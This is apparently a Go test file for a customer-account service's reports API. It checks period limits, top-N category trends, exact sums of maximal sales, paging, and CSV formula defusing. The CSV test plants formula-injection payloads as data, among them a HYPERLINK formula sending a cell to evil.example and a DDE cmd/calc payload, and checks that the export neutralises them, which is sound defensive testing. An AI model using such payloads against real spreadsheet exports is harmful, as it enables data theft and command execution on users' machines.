package api_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/google/uuid"

	"kam"
)

// SPEC §7: a report period covers at most ten years; longer is 422
// period_too_long on every report, not a trend of every month since 1900.
func TestReportPeriodTooLong(t *testing.T) {
	staff := staffByRole(t)
	gm := staff[kam.RoleGeneralManager]
	acct := newAccount(t, "")
	for _, path := range []string{"/v1/reports/overview", "/v1/reports/churn", "/v1/reports/staff", "/v1/reports/customers/" + acct} {
		must(t, call(t, "GET", path+"?from=2015-01-01&to=2024-12-31", gm.Token, nil), 200)
		problem(t, call(t, "GET", path+"?from=2015-01-01&to=2025-01-01", gm.Token, nil), 422, "period_too_long")
		problem(t, call(t, "GET", path+"?from=1900-01-01&to=2200-12-31&format=csv", gm.Token, nil), 422, "period_too_long")
	}
}

// The monthly trend is bounded in categories: the top N by revenue, then one
// "other" row that sums the rest and says how many it holds.
func TestReportTrendCategoriesBounded(t *testing.T) {
	am := newStaff(t, kam.RoleAccountManager)
	acct := newAccount(t, am.ID)
	for i := 1; i <= 25; i++ {
		must(t, call(t, "POST", "/v1/customers/"+acct+"/sales", am.Token, map[string]any{"product": "p", "product_category": fmt.Sprintf("cat-%02d", i),
			"quantity": "1", "amount": fmt.Sprintf("%d.00", i*10), "sold_on": "2024-02-10"}), 201)
	}
	const q = "?from=2024-01-01&to=2024-03-31"
	check := func(path string, structure string, top int) {
		t.Helper()
		r := must(t, call(t, "GET", path, am.Token, nil), 200)
		shares := r.Body[structure].([]any)
		if len(shares) != top+1 {
			t.Fatalf("%s: %d categories, want %d and other", path, len(shares), top)
		}
		first, last := shares[0].(map[string]any), shares[top].(map[string]any)
		if first["product_category"] != "cat-25" || first["amount"] != "250.00" {
			t.Errorf("%s: first = %v, want the largest", path, first)
		}
		// The other row sums cat-01 … cat-(25-top).
		rest := 0
		for i := 1; i <= 25-top; i++ {
			rest += i * 10
		}
		if last["product_category"] != "other" || last["others"] != float64(25-top) || last["amount"] != fmt.Sprintf("%d.00", rest) {
			t.Errorf("%s: other = %v, want %d categories summing %d", path, last, 25-top, rest)
		}
		if trend := r.Body["monthly_trend"].([]any); len(trend) != 3*(top+1) {
			t.Errorf("%s: %d trend rows, want 3 months × %d", path, len(trend), top+1)
		}
	}
	check("/v1/reports/overview"+q, "category_structure", 20)
	check("/v1/reports/overview"+q+"&categories=3", "category_structure", 3)
	check("/v1/reports/customers/"+acct+q, "product_structure", 20)
	problem(t, call(t, "GET", "/v1/reports/overview"+q+"&categories=1000", am.Token, nil), 422, "validation_failed")
}

// Two sales of the largest amount a row holds (recorded before money was
// capped at input) must not make every report covering them fail with
// "numeric field overflow": sums are never cast to a narrower numeric.
func TestReportSumsOfMaximumSales(t *testing.T) {
	staff := staffByRole(t)
	fin := staff[kam.RoleFinance]
	am := newStaff(t, kam.RoleAccountManager)
	acct := newAccount(t, am.ID)
	const max, twice = "9999999999999999.99", "19999999999999999.98"
	ctx := context.Background()
	for i := 0; i < 2; i++ {
		if _, err := running.Store.Pool.Exec(ctx, `INSERT INTO sales (id, customer_id, product, product_category, quantity, amount, region, sold_on)
			VALUES ($1, $2, 'p', 'bulk', 1, $3, 'East', '1990-01-15')`, uuid.New(), acct, max); err != nil {
			t.Fatal(err)
		}
		// Company revenue for two months of 1990, each the largest.
		if _, err := running.Store.Pool.Exec(ctx, `INSERT INTO company_revenue (month, amount) VALUES ($1::date, $2)
			ON CONFLICT (month) DO UPDATE SET amount = EXCLUDED.amount`, fmt.Sprintf("1990-%02d-01", i+1), max); err != nil {
			t.Fatal(err)
		}
	}
	const q = "?from=1990-01-01&to=1990-12-31"
	o := must(t, call(t, "GET", "/v1/reports/overview"+q, am.Token, nil), 200)
	if o.Body["ka_revenue"] != twice || o.Body["company_revenue"] != twice {
		t.Errorf("overview ka_revenue %v company_revenue %v, want %s", o.Body["ka_revenue"], o.Body["company_revenue"], twice)
	}
	reportID := uuid.NewString()
	c := must(t, call(t, "GET", "/v1/reports/customers/"+acct+q, am.Token, nil, header{"X-Request-Id", reportID}), 200)
	// Art. 9: registered as what it shows of the account, credit included
	// for a role that reads credit (an account manager does, on their own).
	if n := countRows(t, "SELECT count(*) FROM access_log WHERE request_id = $1 AND customer_id = $2 AND action = 'export' AND sections @> ARRAY['product_use','tickets','visits','greetings','credit']", reportID, acct); n != 1 {
		t.Errorf("%d export rows naming the customer report's sections, want 1", n)
	}
	if s := c.Body["product_structure"].([]any)[0].(map[string]any); s["amount"] != twice {
		t.Errorf("customer report structure = %v", s)
	}
	if r := c.Body["regions"].([]any)[0].(map[string]any); r["amount"] != twice {
		t.Errorf("customer report regions = %v", r)
	}
	sr := must(t, call(t, "GET", "/v1/reports/staff"+q, am.Token, nil), 200).items()
	if len(sr) != 1 || sr[0]["revenue"] != twice {
		t.Errorf("staff report = %v", sr)
	}
	must(t, call(t, "GET", "/v1/reports/overview"+q+"&format=csv", fin.Token, nil), 200)

	// The SPEC's own maximum through the API: exact as well.
	acct2 := newAccount(t, am.ID)
	for i := 0; i < 2; i++ {
		must(t, call(t, "POST", "/v1/customers/"+acct2+"/sales", am.Token, map[string]any{"product": "p", "product_category": "bulk",
			"quantity": "1", "amount": "999999999999.99", "sold_on": "1991-03-01"}), 201)
	}
	c2 := must(t, call(t, "GET", "/v1/reports/customers/"+acct2+"?from=1991-01-01&to=1991-12-31", am.Token, nil), 200)
	if s := c2.Body["product_structure"].([]any)[0].(map[string]any); s["amount"] != "1999999999999.98" {
		t.Errorf("two SPEC-maximum sales = %v", s)
	}
}

// SPEC §7: a CSV cell beginning with =, +, -, @, tab or CR is prefixed with
// ' in every CSV kam writes; a plain number in a numeric column (-300.00)
// stays a number.
func TestReportCSVDefusesFormulas(t *testing.T) {
	staff := staffByRole(t)
	ka, fin := staff[kam.RoleKAManager], staff[kam.RoleFinance]
	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	sm := must(t, call(t, "POST", "/v1/staff", adminToken, map[string]any{"name": hyperlink, "role": kam.RoleAccountManager}), 201)
	evil := member{ID: sm.str("id"), Token: must(t, call(t, "POST", "/v1/staff/"+sm.str("id")+"/tokens", adminToken, nil), 201).str("token")}
	acct := must(t, call(t, "POST", "/v1/customers", ka.Token, map[string]any{"code": "CSV-" + uuid.NewString()[:8], "name": hyperlink,
		"tier": "A", "account_manager_id": evil.ID}), 201).str("id")
	must(t, call(t, "POST", "/v1/customers/"+acct+"/sales", evil.Token, map[string]any{"product": "p", "product_category": "@SUM(A1:A9)",
		"quantity": "1", "amount": "10.00", "region": "-2+3+cmd|' /C calc'!A0", "sold_on": "2023-05-01"}), 201)
	must(t, call(t, "PUT", "/v1/customers/"+acct+"/credit", fin.Token, agreement("@monthly", "1000", 30)), 200)
	must(t, call(t, "POST", "/v1/customers/"+acct+"/payments", fin.Token, map[string]any{"amount": "300", "reference": "CSV-1", "received_on": "2022-05-01"}), 201)
	must(t, call(t, "POST", "/v1/customers/"+acct+"/churn", ka.Token, map[string]any{"reason": "competitor", "destination": "Tab town", "competitor": "+Rival", "effective_on": "2023-06-01"}), 201)
	// A tab can no longer come in through the API (SPEC §7 text rules), but
	// rows written before those rules may hold one: put it there directly.
	if _, err := running.Store.Pool.Exec(context.Background(), `UPDATE churns SET destination = E'\tTab town' WHERE customer_id = $1`, acct); err != nil {
		t.Fatal(err)
	}

	read := func(path string) [][]string {
		t.Helper()
		r := call(t, "GET", path, evil.Token, nil)
		if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s: %d %s", path, r.Status, r.Raw)
		}
		rows, err := csv.NewReader(strings.NewReader(string(r.Raw))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return rows
	}
	has := func(rows [][]string, want ...string) bool {
		for _, r := range rows {
			if len(r) >= len(want) && strings.Join(r[:len(want)], "\x00") == strings.Join(want, "\x00") {
				return true
			}
		}
		return false
	}
	const q = "?from=2023-01-01&to=2023-12-31&format=csv"
	if rows := read("/v1/reports/overview" + q); !has(rows, "category", "'@SUM(A1:A9)", "10.00") || !has(rows, "trend", "2023-05/@SUM(A1:A9)", "10.00") {
		t.Errorf("overview csv = %q", rows)
	}
	rows := read("/v1/reports/customers/" + acct + q)
	if !has(rows, "region", "'-2+3+cmd|' /C calc'!A0", "10.00") {
		t.Errorf("customer csv regions = %q", rows)
	}
	// SPEC §7 names a cell by its first character: a negative amount too.
	if !has(rows, "payments", "change", "'-300.00") {
		t.Errorf("customer csv: a negative amount is not defused: %q", rows)
	}
	if rows := read("/v1/reports/churn" + q); !has(rows, "competitor", "'\tTab town", "'+Rival") {
		t.Errorf("churn csv = %q", rows)
	}
	if rows := read("/v1/reports/staff" + q); !has(rows, evil.ID, "'"+hyperlink) {
		t.Errorf("staff csv = %q", rows)
	}
}

// SPEC §3 "Lists: ?limit=&cursor=": the churn and staff reports are lists,
// paged in the report's order (no row repeated or skipped), refusing a bad
// limit or a cursor they did not issue; the CSV export stays whole.
func TestReportListsPage(t *testing.T) {
	ka := newStaff(t, kam.RoleKAManager)
	for i, reason := range []string{"price", "quality", "service"} {
		c := newAccount(t, "")
		must(t, call(t, "POST", "/v1/customers/"+c+"/churn", ka.Token, map[string]any{"reason": reason, "destination": fmt.Sprint("Rival ", i), "effective_on": today()}), 201)
	}
	for _, path := range []string{"/v1/reports/churn", "/v1/reports/staff"} {
		first := must(t, call(t, "GET", path+"?limit=500", ka.Token, nil), 200)
		whole, complete := first.items(), first.str("next_cursor") == ""
		if len(whole) < 3 {
			t.Fatalf("%s: %d rows, want at least 3", path, len(whole))
		}
		var walked []string
		cursor := ""
		for pages := 0; ; pages++ {
			if pages > len(whole) {
				t.Fatalf("%s: the walk does not end", path)
			}
			q := path + "?limit=2"
			if cursor != "" {
				q += "&cursor=" + cursor
			}
			r := must(t, call(t, "GET", q, ka.Token, nil), 200)
			if n := len(r.items()); n > 2 {
				t.Fatalf("%s: %d rows on a page of 2", path, n)
			}
			for _, it := range r.items() {
				walked = append(walked, fmt.Sprint(it))
			}
			if cursor = r.str("next_cursor"); cursor == "" {
				break
			}
		}
		if len(walked) < len(whole) || (complete && len(walked) != len(whole)) {
			t.Fatalf("%s: the walk saw %d rows, the report's first 500 have %d", path, len(walked), len(whole))
		}
		for i := range whole {
			if walked[i] != fmt.Sprint(whole[i]) {
				t.Fatalf("%s: row %d walked as %s, the whole report has %s", path, i, walked[i], fmt.Sprint(whole[i]))
			}
		}
		wantFieldError(t, call(t, "GET", path+"?limit=abc", ka.Token, nil), "query.limit")
		wantFieldError(t, call(t, "GET", path+"?cursor=!!bad", ka.Token, nil), "query.cursor")
		csv := call(t, "GET", path+"?format=csv&limit=1", ka.Token, nil)
		if csv.Status != 200 || strings.Count(string(csv.Raw), "\n") != len(walked)+1 {
			t.Fatalf("%s: the CSV export has %d lines for %d rows: %s", path, strings.Count(string(csv.Raw), "\n"), len(walked), csv.Raw)
		}
	}
}
